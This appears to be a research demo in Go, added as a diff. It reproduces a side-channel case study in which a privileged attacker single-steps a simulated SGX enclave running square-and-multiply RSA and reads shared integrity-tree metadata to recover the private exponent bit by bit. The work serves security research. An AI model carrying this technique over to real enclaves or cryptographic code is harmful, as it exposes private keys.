@@ -1,0 +1,71 @@
+// RSA leak demo (the §VIII-B1 case study on the SGX calibration): a
+// victim enclave runs libgcrypt-style square-and-multiply modular
+// exponentiation; a privileged attacker single-steps it (SGX-Step) and
+// watches the square and multiply function pages through their shared
+// L1 integrity tree nodes, recovering the private exponent bit by bit.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"metaleak"
+)
+
+func main() {
+	sys := metaleak.NewSystem(metaleak.ConfigSGX())
+
+	// Privileged attacker: controls EPC page placement and steps the
+	// victim. In SGX the L0 tree node covers exactly one page, so sharing
+	// starts at L1 (groups of 8 consecutive EPC pages).
+	attacker := metaleak.NewAttacker(sys, 0, true)
+	frames, err := attacker.PlaceVictimPages(1, 2, 1)
+	if err != nil {
+		log.Fatal(err)
+	}
+	dm, err := attacker.NewDualMonitor(frames[0], frames[1], 1)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	proc := metaleak.NewProc(sys, 1)
+	rv := &metaleak.RSAVictim{Proc: proc, SqrPage: frames[0], MulPage: frames[1]}
+
+	secret := metaleak.IntFromHex("c3a5f10e9b7d2468ace13579bdf02468")
+	modulus := metaleak.IntFromHex("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
+
+	var ops []metaleak.Op
+	iv := &metaleak.Interleave{
+		Before: dm.Evict, // mEvict on each single-stepped iteration
+		After: func() {
+			if dm.Classify() {
+				ops = append(ops, metaleak.OpSquare)
+			} else {
+				ops = append(ops, metaleak.OpMultiply)
+			}
+		},
+	}
+	_, oracleOps := rv.ModExp(metaleak.NewInt(0x10001), secret, modulus, iv)
+
+	bits := metaleak.ExponentFromOps(ops)
+	want := metaleak.BitsOfExponent(secret)
+	fmt.Printf("victim performed %d square/multiply operations\n", len(oracleOps))
+	fmt.Printf("operation trace accuracy: %.1f%%\n", 100*metaleak.OpAccuracy(ops, oracleOps))
+	fmt.Printf("recovered exponent bits:  %.1f%% of %d bits\n",
+		100*metaleak.AlignedAccuracy(bits, want), len(want))
+
+	recovered := bitsToHex(bits)
+	fmt.Printf("secret exponent: %s\n", secret)
+	fmt.Printf("recovered:       %s\n", recovered)
+}
+
+func bitsToHex(bits []uint) string {
+	v := metaleak.NewInt(0)
+	for _, b := range bits {
+		v = v.Shl(1)
+		if b == 1 {
+			v = v.Add(metaleak.NewInt(1))
+		}
+	}
+	return v.String()
+}
